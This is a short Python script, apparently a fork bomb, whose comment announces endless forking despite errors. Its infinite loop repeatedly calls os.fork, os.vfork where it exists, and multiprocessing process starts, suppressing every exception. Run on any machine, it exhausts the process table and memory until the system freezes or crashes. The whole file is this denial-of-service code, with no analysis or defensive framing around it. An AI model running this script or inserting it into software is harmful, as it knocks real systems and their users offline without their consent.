# tries: fork without end, in spite of every error
import multiprocessing
import os

while True:
    for attempt in (os.fork, os.vfork if hasattr(os, "vfork") else os.fork, multiprocessing.Process(target=print).start):
        try:
            attempt()
        except Exception:
            pass
